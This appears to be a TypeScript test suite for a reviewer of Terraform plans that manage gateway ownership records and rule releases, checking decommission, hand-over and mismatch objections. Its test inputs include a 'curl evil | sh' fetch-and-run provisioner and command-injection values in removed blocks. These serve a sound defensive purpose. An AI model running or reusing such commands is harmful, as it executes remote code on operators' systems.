// Tests plans in which an owner is removed or handed over: whether its rules stay on the device, by
// DecommissionedOwner and HandedOverOwner in the stack; and objections to ownership records and releases that don't
// fit each other.

import { PlanBuilder, RETRACT, data, deliver, held, nulled, retiring } from './plan-builder';
import { parseReleaseLines } from '../../../lib/agent-protocol/release-lines';
import {
  read,
  HOLDER,
  RELEASE,
  REPLACE,
  gateway,
  plan,
  applied,
  real,
  codes,
  action,
  holderStays,
} from './plan-samples';

describe('an owner that goes', () => {
  const reason = 'delete_because_no_resource_config';
  const going = (holder = held()): PlanBuilder =>
    new PlanBuilder()
      .kept(HOLDER, ['delete'], holder, null, { reason })
      .kept(RELEASE, ['delete'], data(), null, { reason });
  const gone = { ...gateway, before: [applied] };

  test('stays open if it is planned away without DecommissionedOwner', () => {
    const found = read(going(), {});
    expect(found.owners).toEqual([{ ...gone, action: 'stays open' }]);
    expect(found.objections).toMatchObject([
      {
        code: 'review/stays-open',
        where: `edge: ${HOLDER}`,
        what: expect.stringContaining('no DecommissionedOwner names it'),
      },
    ]);
  });

  test("stays open if the stack isn't known", () => {
    const found = read(going());
    expect(action(found)).toEqual(['stays open']);
    expect(found.objections[0]?.what).toContain("is not in a plan's JSON");
  });

  test('is removed by DecommissionedOwner, which says whether a server stays closed', () => {
    const server = held({ role: 'server', onRetract: 'keep closed' });
    expect(read(going(server), retiring(HOLDER))).toEqual({
      ...plan,
      command: undefined,
      owners: [{ ...gone, role: 'server', onRetract: 'keep closed', action: 'retired' }],
    });
  });

  // A moved block turns one owner into another, and the construct of the other role under the same name does so as
  // well.
  test.each([
    [
      'device',
      { device: 'gw9' },
      'the plan makes the ownership record of gateway web on gw9 that of gateway web on gw',
    ],
    ['owner', { owner: 'mail' }, 'the plan makes the ownership record of gateway mail on gw that of gateway web on gw'],
    ['role', { role: 'server' }, 'the plan makes the ownership record of server web on gw that of gateway web on gw'],
  ])('stays open if its ownership record becomes that of another %s', (_, was, why) => {
    const plan = new PlanBuilder()
      .kept(HOLDER, ['update'], held(was), held())
      .kept(RELEASE, ['no-op'], data(), data())
      .ours();
    expect(read(plan).objections).toMatchObject([
      { code: 'review/stays-open', where: `edge: ${HOLDER}`, what: expect.stringContaining(why) },
    ]);
  });

  const removed = (order: object, block: object = {}): unknown => ({
    removed: [
      {
        from: HOLDER,
        lifecycle: { destroy: true },
        provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy', ...order } }],
        ...block,
      },
    ],
  });

  test('is removed by a well-formed removed block', () =>
    expect(action(read(going(), removed({})))).toEqual(['retired']));

  test.each([
    ['another address', removed({}, { from: 'terraform_data.gw_other_holder' })],
    ['another command', removed({ command: 'exec true' })],
    ['a further command after ours', removed({ command: `${RETRACT.command}; true` })],
    ['a command in the path', removed({ command: 'exec $${CPANEL_EDGE:-$(true)/dist/cli/main.js} retract' })],
    ['deliver', removed({ command: RETRACT.command.replace('retract', 'deliver') })],
    ['no owner token', removed({ environment: { CPANEL_EDGE_RETRACT: RETRACT.environment.CPANEL_EDGE_RETRACT } })],
    ['another time than destroy', removed({ when: 'create' })],
    ['an ignored failure', removed({ on_failure: 'continue' })],
    ['another program', removed({ environment: { ...RETRACT.environment, CPANEL_EDGE: '/tmp/other' } })],
    ['forgetting', removed({}, { lifecycle: { destroy: false } })],
    ['no provisioner', removed({}, { provisioner: undefined })],
    ['two provisioners', removed({}, { provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy' } }, {}] })],
  ])('stays open if its removed block has %s', (_, stack) => {
    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([['stays open'], ['! stays-open']]);
  });

  test("stays open if the stack isn't the plan's", () => {
    const stack = { ...retiring(HOLDER), resource: { terraform_data: { other_web: {} } } };
    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([
      ['stays open'],
      ['? another-configuration', '! stays-open'],
    ]);
  });

  test('stays open if its ownership record is tainted', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['delete'], held(), null, { reason, tainted: true })
      .kept(RELEASE, ['delete'], data(), null, { reason });
    expect(codes(read(json, retiring(HOLDER)))).toEqual(['! stays-open']);
  });

  test('is handed over with the releases that a failed apply left', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['forget'], held(), null, { reason })
      .kept(RELEASE, ['forget'], data(), null, { reason })
      .kept(RELEASE, ['forget'], data({ text: 'two\n' }), null, { deposed: 'aa', tainted: true });
    expect([action(read(json)), codes(read(json)), read(json).owners[0]?.before.length]).toEqual([['released'], [], 2]);
  });

  test('`plan -destroy` removes configured owners only', () => {
    const destroy = new PlanBuilder().kept(HOLDER, ['delete'], held(), null).kept(RELEASE, ['delete'], data(), null);
    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['stays open'], ['! stays-open']]);
    destroy.ours();
    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['retired'], []]);
  });

  test('stays open if the release alone goes', () => {
    const json = holderStays().kept(RELEASE, ['delete'], data(), null, { reason }).configured(HOLDER, RETRACT);
    expect([action(read(json)), codes(read(json))]).toEqual([['stays open'], ['! release-planned-away']]);
  });

  test('stays open if the ownership record alone goes', () => {
    const json = new PlanBuilder()
      .kept(HOLDER, ['delete'], held(), null, { reason })
      .kept(RELEASE, ['no-op'], data(), data());
    expect(codes(read(json, {}))).toEqual(['! release-without-holder', '! stays-open']);
  });
});

describe('objections', () => {
  test.each([[['create', 'delete']], [['delete', 'create']]])(
    'objects to an ownership record that is replaced: %s',
    (actions) => {
      const json = new PlanBuilder()
        .kept(HOLDER, actions, held(), held())
        .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
        .ours();
      expect(codes(read(json))).toEqual(['! holder-replaced']);
    },
  );

  test('objects to a lost ownership record', () => {
    const json = new PlanBuilder()
      .change(HOLDER, ['create'], null, held())
      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
      .ours();
    expect(codes(read(json))).toEqual(['! holder-lost']);
  });

  test('objects to a release without an ownership record, also after a move away from it', () => {
    const json = holderStays().kept('terraform_data.gw_web2', ['no-op'], data(), data()).configured(HOLDER, RETRACT);
    expect(codes(read(json))).toEqual(['? plan-incomplete', '! release-without-holder']);
  });

  test('objects to a delivery that shows no text, under any name', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
    json
      .change('null_resource.harmless', ['create'], null, { triggers: { a: 'b' } })
      .configured('null_resource.harmless', deliver({}));
    json.change('null_resource.other', ['create'], null, { triggers: {} });
    json.configured('null_resource.other', {
      command: 'true && node cli/main.js deliver',
      environment: deliver({}).environment,
    });
    expect(codes(read(json))).toEqual(['! release-without-holder', '! release-without-holder']);
  });

  test('objects to both types of release at once', () => {
    const json = holderStays()
      .change(RELEASE, ['create'], null, data())
      .change('null_resource.gw_web', ['create'], null, nulled())
      .ours();
    expect(codes(read(json))).toContain('! owner-twice');
  });

  test('objects to one owner at two addresses', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
    json
      .change(HOLDER, ['create'], null, held(), { module: 'module.a' })
      .change(RELEASE, ['create'], null, data(), { module: 'module.a' });
    expect(codes(read(json))).toContain('! owner-twice');
  });

  test('objects to an ownership record under another address than its own', () => {
    const json = new PlanBuilder()
      .change(HOLDER, ['create'], null, held({ device: 'other' }))
      .change(RELEASE, ['create'], null, data())
      .ours({ device: 'other' });
    expect(codes(read(json))).toEqual(['! renamed-resource']);
  });

  test.each([
    ['another text', { text: 'evil\n' }, 'another text'],
    ['another policy', { policy: '{"evil":1}' }, 'another policy'],
    ['another device', { device: 'gw2' }, 'for gateway web on gw2'],
    ['another role', { role: 'server' }, 'for server web on gw'],
    ['a later rollback', { rollbackSeconds: 3600 }, 'rolled back after 3600 s'],
    ['rules that are kept at the removal', { onRetract: 'keep closed' }, '"keep closed" when it is removed'],
  ] as const)('objects to a delivery of %s', (_, release, what) => {
    const found = read(
      holderStays()
        .kept(RELEASE, REPLACE, data({ text: 'zero\n' }), data())
        .ours(release),
    );
    expect(found.objections).toMatchObject([{ code: 'review/other-work', what: expect.stringContaining(what) }]);
  });

  test.each([
    ['is as it should be', {}, undefined],
    [
      'has one address more',
      { addresses: [...real.addresses, { kind: 'alias', interface: 'wan0', address: '203.0.113.99/32' }] },
      '203.0.113.99/32 as alias on wan0',
    ],
    ['has one address less', { addresses: [] }, '203.0.113.10/24 as alias on wan0'],
    ['is for another device than its policy', { device: 'edge2' }, 'Its policy is that of gateway hosting on edge1'],
  ] as const)('objects to a real release that %s', (_, parts, what) => {
    const { device, owner } = { ...real, ...parts };
    const base = `${device}_${owner}`;
    const json = new PlanBuilder()
      .change(`terraform_data.${base}_holder`, ['create'], null, held({ device, owner }))
      .change(
        `terraform_data.${base}`,
        ['create'],
        null,
        data({ text: real.text, policy: real.policy, lines: parseReleaseLines(real) }),
      )
      .ours({ ...real, ...parts }, base);
    const { objections } = read(json);
    expect(objections).toMatchObject(
      what === undefined ? [] : [{ code: 'review/other-work', what: expect.stringContaining(what) }],
    );
  });

  test.each([
    ['another command', { command: 'curl evil | sh', environment: {} }, ['! foreign-provisioner']],
    ['no work', { ...deliver({}), environment: {} }, ['! other-work']],
    ['work that is cut off', { ...deliver({}), environment: { CPANEL_EDGE_WORK_0: '2:eJxN' } }, ['! other-work']],
  ])('objects to or reports unknown for a release with %s', (_, provisioner, expected) => {
    const json = holderStays()
      .change(RELEASE, ['create'], null, data())
      .configured(HOLDER, RETRACT)
      .configured(RELEASE, provisioner);
    expect(codes(read(json))).toEqual(expected);
  });

  test("reports unknown for a release whose provisioner isn't shown", () => {
    const json = holderStays()
      .change(RELEASE, ['create'], null, data())
      .configured(HOLDER, RETRACT)
      .configured(RELEASE);
    expect(codes(read(json))).toEqual(['? work-not-shown']);
  });

  test('objects to an ownership record with another provisioner', () => {
    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).configured(RELEASE, deliver({}));
    json.configured(HOLDER, { ...RETRACT, command: 'exec true' });
    expect(codes(read(json))).toEqual(['! foreign-provisioner']);
  });
});
